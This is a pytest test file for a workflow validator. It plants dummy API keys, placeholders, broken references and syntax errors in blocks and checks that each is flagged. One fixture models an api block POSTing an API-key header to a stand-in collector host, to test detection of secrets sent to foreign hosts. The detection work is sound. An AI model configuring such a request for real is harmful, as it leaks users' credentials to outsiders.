"""The validators' shortcuts never say "nothing here" where a rule would find something.

Validation skips work on what looks clean: a string without '<' is never parsed for tags, a text
without `YOUR_`/`_FIELD_ID` is never read for placeholders, texts are judged for secrets together
as one JSON text (`scan.all_clean`), nested values are searched for '<' in their JSON text, a
table as Sim stores it is read straight from its texts, an api block whose {{VAR}}s no host
could make suspect skips the host check, a simple expression is valid JavaScript without a
parse. Each shortcut may say "look" too often, never "skip" wrongly. Here every value shape a
value-level rule reacts to is planted alone in an otherwise clean block — every registered JUL25
block type, one text field of each — and the finding must come out at that place.
"""

from __future__ import annotations

import copy
from typing import Any

import pytest

from lib.sim import registry
from lib.validation import validate

SECRET = "sk-proj-Qx7Lm2Rt9Vb4Nc8Kd1Fg5Hj3Zp6Ws0Ye7Ua2Ib9Oc4Ed"
_TEXT_TYPES = ("short-input", "long-input", "code")


def _state(block: dict[str, Any]) -> dict[str, Any]:
    """A starter with one edge into `block` (id 'x')."""
    starter = {
        "id": "start",
        "type": "starter",
        "name": "Start",
        "position": {"x": 0, "y": 0},
        "subBlocks": {"startWorkflow": {"id": "startWorkflow", "type": "dropdown", "value": "manual"}},
        "outputs": {},
        "enabled": True,
    }
    edge = {"id": "e1", "source": "start", "target": "x", "sourceHandle": "source", "targetHandle": "target"}
    return {"blocks": {"start": starter, "x": block}, "edges": [edge], "loops": {}, "parallels": {}}


def _block(block_type: str, subs: dict[str, tuple[str, Any]], **own: Any) -> dict[str, Any]:
    return {
        "id": "x",
        "type": block_type,
        "name": "Target Block",
        "position": {"x": 300, "y": 0},
        "subBlocks": {k: {"id": k, "type": t, "value": v} for k, (t, v) in subs.items()},
        "outputs": {},
        "enabled": True,
        **own,
    }


def _text_fields() -> list[tuple[str, str, str]]:
    """(type, field, UI type) of one plain text field per JUL25 type: not secret, not a
    credential, not read by the type's own checks (a condition's or router's entries)."""
    found = []
    for block_type in sorted(registry.jul25_types()):
        spec = registry.get_block(block_type)
        if spec is None or spec.container or block_type in ("condition", "router", "starter"):
            continue
        for sub in spec.emit_sub_blocks:
            if sub.type in _TEXT_TYPES and not sub.secret and sub.id not in spec.secret_ids:
                found.append((block_type, sub.id, sub.type))
                break
    return found


FIELDS = _text_fields()
IDS = [f"{t}.{f}" for t, f, _ in FIELDS]


def _codes_at(state: dict[str, Any], path_prefix: str) -> set[str]:
    report = validate(state, era="jul25")
    return {f.code for f in report.findings if f.path == path_prefix or f.path.startswith(path_prefix + "/")}


def test_the_sweep_covers_the_registry():
    assert len(FIELDS) >= 40  # nearly every JUL25 type has a plain text field


# (value planted, path inside the value, code expected)
SHAPES = [
    ("Use <nosuchblock.field> here", "", "unknown_reference"),
    ({"outer": ["plain", {"deep": "<nosuchblock.field>"}]}, "/outer/1/deep", "unknown_reference"),
    (
        [{"id": "r1", "cells": {"Key": "Accept", "Value": "<nosuchblock.field>"}}],
        "/0/cells/Value",
        "unknown_reference",
    ),
    (f"the key is {SECRET}", "", "plaintext_secret_value"),
    (["plain", {"inner": SECRET}], "/1/inner", "plaintext_secret_value"),
    ([{"id": "r1", "cells": {"Key": "Accept", "Value": SECRET}}], "/0/cells/Value", "plaintext_secret_value"),
    ("https://hooks.example.com/x?token=Zx81Qm2Rt9Vb4Nc8Kd1FgH5", "", "plaintext_secret_value"),
    ("Reply to YOUR_SHOP_NAME customers", "", "placeholder_value"),
]


@pytest.mark.parametrize(("block_type", "field", "ui_type"), FIELDS, ids=IDS)
def test_each_shape_in_a_clean_block_is_found(block_type: str, field: str, ui_type: str):
    base = _state(_block(block_type, {field: (ui_type, "plain words")}))
    clean = _codes_at(base, "/blocks/x/subBlocks")
    assert not clean & {code for _v, _p, code in SHAPES}, clean
    for value, inner, code in SHAPES:
        if code == "placeholder_value" and not isinstance(value, str):
            continue
        state = copy.deepcopy(base)
        state["blocks"]["x"]["subBlocks"][field]["value"] = copy.deepcopy(value)
        found = _codes_at(state, f"/blocks/x/subBlocks/{field}/value{inner}")
        assert code in found, (block_type, field, value, found)


@pytest.mark.parametrize(
    ("where", "value"),
    [
        ("name", f"Agent {SECRET}"),
        ("data", {"note": SECRET}),
        ("outputs", {"result": {"type": "string", "description": SECRET}}),
    ],
)
def test_a_secret_in_the_blocks_own_keys_is_found(where: str, value: Any):
    block = _block("function", {"code": ("code", "return 1")})
    block[where] = value
    assert "plaintext_secret_value" in _codes_at(_state(block), f"/blocks/x/{where}")


def test_a_secret_named_field_with_plain_text_is_found():
    block = _block("agent", {"apiKey": ("short-input", "plainvalue123")})
    assert "plaintext_secret" in _codes_at(_state(block), "/blocks/x/subBlocks/apiKey")


def test_a_credential_row_of_a_table_with_plain_text_is_found():
    headers = [{"id": "h", "cells": {"Key": "Authorization", "Value": "Bearer abc123plainvalue"}}]
    block = _block("api", {"url": ("short-input", "https://api.example.com"), "headers": ("table", headers)})
    assert "plaintext_header_secret" in _codes_at(_state(block), "/blocks/x/subBlocks/headers")


def test_a_secret_tool_param_with_plain_text_is_found():
    tools = [{"type": "http_request", "title": "Call", "params": {"apiKey": "plainvalue123"}}]
    block = _block("agent", {"tools": ("tool-input", tools)})
    assert "plaintext_tool_secret" in _codes_at(_state(block), "/blocks/x/subBlocks/tools")


def test_an_api_block_sending_a_key_to_a_foreign_host_is_found():
    headers = [{"id": "h", "cells": {"Key": "X-Key", "Value": "{{ANTHROPIC_API_KEY}}"}}]
    block = _block(
        "api",
        {
            "url": ("short-input", "https://collector.example.net/in"),
            "method": ("dropdown", "POST"),
            "headers": ("table", headers),
        },
    )
    assert "secret_to_foreign_host" in _codes_at(_state(block), "/blocks/x/subBlocks")


@pytest.mark.parametrize(
    ("block_type", "field", "value", "code"),
    [
        ("function", "code", "return (1 +", "function_syntax"),
        ("function", "code", "return <start.input> +", "function_syntax"),
        (
            "condition",
            "conditions",
            '[{"id": "x-if", "title": "if", "value": "1 =="}, {"id": "x-else", "title": "else", "value": ""}]',
            "condition_syntax",
        ),
    ],
)
def test_code_that_does_not_compile_is_found(block_type: str, field: str, value: str, code: str):
    ui_type = "code" if field == "code" else "condition-input"
    block = _block(block_type, {field: (ui_type, value)})
    assert code in _codes_at(_state(block), f"/blocks/x/subBlocks/{field}")


def _dropdowns() -> list[tuple[str, str]]:
    found = []
    for block_type in sorted(registry.jul25_types()):
        spec = registry.get_block(block_type)
        if spec is None or spec.container:
            continue
        for sub in spec.emit_sub_blocks:
            if sub.type == "dropdown" and sub.options:
                found.append((block_type, sub.id))
                break
    return found


@pytest.mark.parametrize(("block_type", "field"), _dropdowns(), ids=[f"{t}.{f}" for t, f in _dropdowns()])
def test_a_dropdown_value_outside_its_options_is_found(block_type: str, field: str):
    block = _block(block_type, {field: ("dropdown", "surely-not-an-option")})
    assert "invalid_option" in _codes_at(_state(block), f"/blocks/x/subBlocks/{field}")
